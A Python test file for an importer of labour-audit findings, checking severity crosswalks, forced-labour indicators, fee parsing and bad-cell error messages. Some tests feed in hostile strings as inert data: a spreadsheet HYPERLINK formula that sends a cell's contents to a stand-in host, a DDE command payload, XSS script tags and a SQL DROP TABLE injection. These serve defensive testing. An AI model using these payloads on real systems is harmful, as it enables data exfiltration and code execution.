"""audits.importer: findings rows through the crosswalk, indicators and money rules; every kind
of bad cell; hostile text; and real files read through app.spreadsheets.open_table."""

from __future__ import annotations

import datetime as dt
import time

import pytest

from app.spreadsheets import open_table
from audits.importer import (
    COLUMN_HELP,
    FINDING_COLUMNS,
    LIMITS,
    REQUIRED,
    WORKER_GROUPS,
    ParsedFinding,
    parse_findings,
)
from tests.app.sheets import write_book, write_text

FULL = {
    "code": "NC-03", "clause": "ETI 1.1",
    "description": "Workers' passports are kept in the HR office safe.",
    "scheme_severity": "Non-compliance", "indicators": "FL07; debt bondage",
    "workers_affected": 42, "worker_groups": "migrant; agency",
    "recruitment_fee_amount": "350,000", "fee_currency": "NPR",
    "root_cause": "Policy to prevent absconding", "evidence": "Photos; 6 worker interviews",
}


def parse(*rows, scheme="SMETA"):
    return parse_findings(list(enumerate(rows, start=2)), scheme)


def one(values, scheme="SMETA") -> ParsedFinding:
    findings, errors = parse(values, scheme=scheme)
    assert errors == [] and len(findings) == 1
    return findings[0]


def errors_of(values, scheme="SMETA") -> list[dict]:
    findings, errors = parse(values, scheme=scheme)
    assert findings == [] and errors
    return errors


def test_columns_and_help():
    assert set(REQUIRED) <= set(FINDING_COLUMNS) and set(COLUMN_HELP) == set(FINDING_COLUMNS)
    assert all(COLUMN_HELP[c].startswith("Required.") for c in REQUIRED)
    assert all(group in COLUMN_HELP["worker_groups"] for group in WORKER_GROUPS)


def test_a_full_row():
    assert one(FULL) == ParsedFinding(
        row=2, code="NC-03", clause="ETI 1.1",
        description="Workers' passports are kept in the HR office safe.",
        scheme_severity="Non-compliance", severity="critical", indicators=("FL07", "FL09"),
        workers_affected=42, worker_groups=("migrant", "agency"), fee_minor=35_000_000,
        fee_currency="NPR", root_cause="Policy to prevent absconding",
        evidence="Photos; 6 worker interviews")


def test_only_the_required_columns():
    found = one({"description": "No fire exits marked", "scheme_severity": "observation"})
    assert (found.scheme_severity, found.severity, found.code, found.indicators,
            found.worker_groups, found.fee_minor, found.fee_currency, found.workers_affected) \
        == ("Observation", "low", None, (), (), None, None, None)


@pytest.mark.parametrize(("scheme", "typed", "value", "severity", "extra"), [
    ("SMETA", "non compliance", "Non-compliance", "high", {}),
    ("SMETA", "NC", "Non-compliance", "critical", {"indicators": "excessive overtime"}),
    ("SMETA", "NC", "Non-compliance", "critical", {"indicators": "identity documents"}),
    ("SMETA", "NC", "Non-compliance", "critical", {"worker_groups": "Young workers"}),
    ("SMETA", "NC", "Non-compliance", "critical", {"worker_groups": "children"}),
    ("SMETA", "NC", "Non-compliance", "high", {"worker_groups": "female; migrant"}),
    ("SMETA", "Observation", "Observation", "low", {"indicators": "FL11"}),
    ("SMETA 4-pillar", "NC", "Non-compliance", "high", {}),
    ("RBA", "priority", "Priority", "critical", {}),
    ("RBA", "Major NC", "Major", "high", {"worker_groups": "young"}),
    ("RBA", "risk of nonconformance", "Risk of non-conformance", "low", {}),
    ("amfori BSCI", "ZT", "Zero Tolerance", "critical", {}),
    ("amfori BSCI", "e", "E", "high", {}),
    ("amfori BSCI", "D", "D", "medium", {}),
    ("amfori BSCI", "c", "C", "low", {}),
    ("SA8000", "major", "Major", "high", {}),
    ("internal", "Medium", "medium", "medium", {"indicators": "FL09"}),
    ("other", "LOW", "low", "low", {}),
])
def test_severities_come_out_as_the_crosswalk_says(scheme, typed, value, severity, extra):
    found = one({"description": "x", "scheme_severity": typed, **extra}, scheme=scheme)
    assert (found.scheme_severity, found.severity) == (value, severity)


@pytest.mark.parametrize(("column", "value", "expected"), [
    ("code", 1001, "1001"), ("code", 1001.0, "1001"), ("code", "  NC-1 ", "NC-1"),
    ("clause", 4.1, "4.1"),
    ("workers_affected", "1,200", 1200), ("workers_affected", "1 200", 1200),
    ("workers_affected", 12.0, 12), ("workers_affected", "12.00", 12), ("workers_affected", 0, 0),
    ("workers_affected", "10,000,000", 10_000_000), ("workers_affected", "  ", None),
    ("worker_groups", "Piece-rate; HOMEWORKERS, interns", ("student", "piece_rate",
                                                           "homeworker")),
    ("worker_groups", "women;female;Female workers", ("female",)),
    ("worker_groups", "other", ("other",)),
    ("indicators", "fl9, FL 02; Retention of identity documents", ("FL02", "FL07", "FL09")),
    ("indicators", "", ()),
    ("description", "Line one\r\nLine two\tand a tab", "Line one\nLine two and a tab"),
    ("clause", "ETI\n1.1", "ETI 1.1"),           # single-line columns: breaks become a space
    ("root_cause", "'=SUM(A1)", "=SUM(A1)"),     # our exports' "'" before "=" is removed
])
def test_cells_are_cleaned(column, value, expected):
    found = one({"description": "x", "scheme_severity": "NC", column: value})
    assert getattr(found, column) == expected


@pytest.mark.parametrize(("amount", "currency", "minor", "code"), [
    ("3500.50", "USD", 350_050, "USD"), (3500.5, "usd", 350_050, "USD"),
    (150000, "JPY", 150_000, "JPY"), ("1.250", "KWD", 1_250, "KWD"), ("0", "MYR", 0, "MYR"),
])
def test_fees_in_minor_units(amount, currency, minor, code):
    found = one({"description": "x", "scheme_severity": "NC", "recruitment_fee_amount": amount,
                 "fee_currency": currency})
    assert (found.fee_minor, found.fee_currency) == (minor, code)


# Each kind of bad cell: (column, value, words in the message)
BAD_CELLS = [
    ("description", None, "Description is required."),
    ("description", "   ", "Description is required."),
    ("description", "x" * 4001, "Description is 4,001 characters long; the limit is 4,000."),
    ("description", True, "must be text, not True"),
    ("description", dt.date(2024, 5, 1), "looks like a date"),
    ("description", ["a"], "must be text"),
    ("scheme_severity", None, "Scheme severity is required: use one of Non-compliance, "
                              "Observation."),
    ("scheme_severity", "Major", 'Unknown severity "Major" for a SMETA audit: use one of '
                                 "Non-compliance, Observation."),
    ("scheme_severity", "Good practice", "is not a finding"),
    ("scheme_severity", 3, 'Unknown severity "3"'),
    ("scheme_severity", "x" * 61, "limit is 60"),
    ("code", "C" * 41, "Code is 41 characters long; the limit is 40."),
    ("code", dt.datetime(2024, 5, 1, 9, 30), "looks like a date"),
    ("clause", "c" * 201, "limit is 200"),
    ("root_cause", "r" * 2001, "limit is 2,000"),
    ("evidence", "e" * 2001, "limit is 2,000"),
    ("indicators", "FL12", '"FL12" is not an ILO forced-labour indicator'),
    ("indicators", "debt bondage; forced marriage", '"forced marriage"'),
    ("indicators", "FL01;" * 101, "limit is 500"),
    ("workers_affected", "12.5", 'must be a whole number (got "12.5")'),
    ("workers_affected", 12.5, "must be a whole number"),
    ("workers_affected", "-3", "cannot be negative"),
    ("workers_affected", -3, "cannot be negative"),
    ("workers_affected", "about 40", "must be a whole number"),
    ("workers_affected", "1,2", "must be a whole number"),
    ("workers_affected", True, "must be a whole number"),
    ("workers_affected", 10_000_001, "implausibly large; the limit is 10,000,000"),
    ("workers_affected", "1e9", "must be a whole number"),
    ("workers_affected", float("nan"), "must be a whole number"),
    ("workers_affected", float("inf"), "must be a whole number"),
    ("workers_affected", 10**400, "implausibly large"),
    ("workers_affected", "9" * 400, "must be a whole number"),
    ("workers_affected", "=1+1", "must be a whole number"),
    ("workers_affected", "４２", "must be a whole number"),
    ("worker_groups", "aliens", '"aliens" is not a worker group: use migrant, agency'),
    ("worker_groups", "migrant; kids; adults", '"kids", "adults" are not worker groups'),
    ("recruitment_fee_amount", "1.005", "1.005 USD has more decimals than USD allows"),
    ("recruitment_fee_amount", "-100", "cannot be negative"),
    ("recruitment_fee_amount", "NaN", "not an amount"),
    ("recruitment_fee_amount", "1e20", "not an amount"),
    ("recruitment_fee_amount", 1e20, "too large"),
    ("recruitment_fee_amount", "USD 100", "not an amount"),
    ("recruitment_fee_amount", True, "not True"),
    ("fee_currency", "Rupees", "not a currency code"),
    ("fee_currency", "ABC", "not an ISO 4217 currency code"),
    ("fee_currency", "XAU", "precious metal"),
]


@pytest.mark.parametrize(("column", "value", "words"), BAD_CELLS)
def test_each_kind_of_bad_cell(column, value, words):
    row = {"description": "x", "scheme_severity": "NC", column: value}
    if column == "recruitment_fee_amount":
        row["fee_currency"] = "USD"
    if column == "fee_currency":
        row["recruitment_fee_amount"] = "100"
    errors = errors_of(row)
    assert [(e["row"], e["column"]) for e in errors] == [(2, column)]
    assert words in errors[0]["message"]
    assert len(errors[0]["message"]) < 400  # hostile values are never echoed whole


def test_fee_amount_and_currency_go_together():
    no_currency = errors_of({"description": "x", "scheme_severity": "NC",
                             "recruitment_fee_amount": "100"})
    assert no_currency == [{"row": 2, "column": "fee_currency", "message":
                            "A recruitment fee amount needs its currency: fill in fee_currency, "
                            'such as "NPR" or "USD".'}]
    no_amount = errors_of({"description": "x", "scheme_severity": "NC", "fee_currency": "USD"})
    assert [e["column"] for e in no_amount] == ["recruitment_fee_amount"]
    assert one({"description": "x", "scheme_severity": "NC", "recruitment_fee_amount": " ",
                "fee_currency": ""}).fee_minor is None


def test_every_bad_cell_of_a_row_is_reported():
    errors = errors_of({"code": "C" * 50, "description": None, "scheme_severity": "Severe",
                        "indicators": "FL99", "workers_affected": "-1", "worker_groups": "x",
                        "recruitment_fee_amount": "1.001", "fee_currency": "USD",
                        "root_cause": "\x00", "evidence": "e" * 3000})
    assert {e["column"] for e in errors} == {
        "code", "description", "scheme_severity", "indicators", "workers_affected",
        "worker_groups", "recruitment_fee_amount", "root_cause", "evidence"}
    assert {e["row"] for e in errors} == {2}


def test_good_rows_and_bad_rows_are_told_apart():
    findings, errors = parse(FULL | {"code": "A"}, {"description": "y", "scheme_severity": "?"},
                             FULL | {"code": "B"})
    assert [f.row for f in findings] == [2, 4]
    assert [e["row"] for e in errors] == [3]


def test_a_code_used_twice_is_an_error_on_the_later_row_ignoring_case():
    findings, errors = parse(FULL | {"code": "NC-1"}, FULL | {"code": "F-2"},
                             FULL | {"code": "nc-1"}, FULL | {"code": "NC-1"})
    assert [f.code for f in findings] == ["NC-1", "F-2"]
    assert errors == [
        {"row": 4, "column": "code", "message": 'The code "nc-1" is already used on row 2: '
                                                "each finding's code appears once."},
        {"row": 5, "column": "code", "message": 'The code "NC-1" is already used on row 2: '
                                                "each finding's code appears once."},
    ]


def test_duplicate_codes_are_found_on_rows_with_other_errors_too():
    _, errors = parse(FULL | {"code": "A", "scheme_severity": "?"}, FULL | {"code": "A"})
    assert [(e["row"], e["column"]) for e in errors] == [(2, "scheme_severity"), (3, "code")]


def test_rows_without_codes_are_never_duplicates():
    findings, errors = parse(FULL | {"code": None}, FULL | {"code": None})
    assert len(findings) == 2 and errors == []


def test_an_unknown_scheme_is_a_callers_bug():
    with pytest.raises(ValueError, match="not an audit scheme"):
        parse_findings([], "ISO 9001")


def test_no_rows():
    assert parse_findings(iter([]), "RBA") == ([], [])


# Hostile text: kept as text when it is only text; refused when it hides characters.
@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "{{ config }} {% raw %}",
    "'; DROP TABLE audit_findings; --",
    "工人的护照被保管在人力资源办公室。",
    "العمال دفعوا رسوم التوظيف",
    "कामदारहरूले भर्ती शुल्क तिरे",
    "คนงานจ่ายค่าธรรมเนียม",
    "Công nhân phải trả phí tuyển dụng",
    "Рабочие заплатили сборы",
    "💸 fees 🛂 passports",
    "e\u0301 combining; \u200b zero width; \u202e right-to-left override",
])
def test_hostile_but_printable_text_is_kept_verbatim(text):
    found = one({"description": text, "root_cause": text, "evidence": text, "code": "C1",
                 "clause": text[:200], "scheme_severity": "NC"})
    assert found.description == text.strip() and found.root_cause == text.strip()


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x07", "\x0b", "\x0c", "\x1b", "\x7f",
                                  "\x85", "\x9b", "\ud800", "\udfff"])
@pytest.mark.parametrize("column", ["code", "clause", "description", "indicators",
                                    "worker_groups", "root_cause", "evidence",
                                    "scheme_severity"])
def test_control_characters_and_lone_surrogates_are_errors(column, char):
    value = {"indicators": "FL09", "worker_groups": "migrant", "scheme_severity": "NC"}.get(
        column, "text")
    errors = errors_of({"description": "x", "scheme_severity": "NC",
                        column: value + char + "=cmd"})
    assert [e["column"] for e in errors] == [column]
    assert f"U+{ord(char):04X}" in errors[0]["message"]


def test_tabs_and_line_breaks_are_not_control_errors():
    found = one({"description": "a\tb\nc\rd", "code": "X\t1", "scheme_severity": "NC\n"})
    assert (found.description, found.code) == ("a b\nc\nd", "X 1")


def test_limits_are_in_characters_not_bytes():
    text = "护" * LIMITS["description"]
    assert one({"description": text, "scheme_severity": "NC"}).description == text


def test_five_thousand_rows_parse_quickly():
    rows = [(n, FULL | {"code": f"F-{n}"}) for n in range(2, 5002)]
    start = time.perf_counter()
    findings, errors = parse_findings(rows, "SMETA")
    assert len(findings) == 5000 and errors == []
    assert time.perf_counter() - start < 2.0  # the issue allows 5 s for validate and import


# Through the real reader: the service's path, with its own hostile-file defences.
def _rows_of(path, filename):
    with open_table(path, filename, FINDING_COLUMNS) as table:
        assert set(REQUIRED) <= set(table.columns)
        return parse_findings(table.rows, "RBA")


def test_an_xlsx_file_through_open_table(tmp_path):
    path = write_book(tmp_path / "findings.xlsx", [
        ["Code", "Clause", "Description*", "Scheme severity*", "Indicators", "Workers affected",
         "Worker groups", "Recruitment fee amount", "Fee currency", "Root cause", "Evidence"],
        ["P-1", "A1", "Workers paid fees to a labour agent", "Priority nonconformance",
         "debt bondage", 120, "migrant; agency", 4500.5, "MYR", "No fee policy", "Payslips"],
        [1002, None, "Fire exits locked", "minor", None, 3.0, None, None, None, None, None],
        # a live formula cell holds no text of its own: read as blank, so a missing description
        ["P-3", None, '=HYPERLINK("http://evil.example","x")', "major", None, None, None, None,
         None, None, None],
        ["P-4", None, "Overtime over 60 hours", "Catastrophic", "FL11", "many", None, 1, None,
         None, None],
    ])
    findings, errors = _rows_of(path, "findings.xlsx")
    assert [(f.row, f.code, f.severity, f.indicators, f.fee_minor, f.workers_affected)
            for f in findings] == [(2, "P-1", "critical", ("FL09",), 450_050, 120),
                                   (3, "1002", "medium", (), None, 3)]
    assert [(e["row"], e["column"]) for e in errors] == [
        (4, "description"), (5, "workers_affected"), (5, "fee_currency"),
        (5, "scheme_severity")]
    assert "Priority, Major, Minor, Risk of non-conformance" in errors[3]["message"]


def test_a_csv_file_through_open_table(tmp_path):
    path = write_text(tmp_path / "findings.csv",
                      "code;description;scheme_severity;indicators;recruitment_fee_amount;"
                      "fee_currency\n"
                      'M-1;"Fees of 1,500.00 USD";major;FL09, FL02;"1,500.00";usd\n'
                      "M-2;工人的护照被扣留;risk of non conformance;identity documents;;\n"
                      'M-3;"=HYPERLINK(""http://evil.example"")";Minor;;;\n')
    findings, errors = _rows_of(path, "findings.csv")
    assert errors == []
    assert [(f.code, f.severity, f.indicators, f.fee_minor, f.fee_currency) for f in findings] \
        == [("M-1", "high", ("FL02", "FL09"), 150_000, "USD"),
            ("M-2", "low", ("FL07",), None, None), ("M-3", "medium", (), None, None)]
    assert findings[2].description == '=HYPERLINK("http://evil.example")'  # text, kept as text
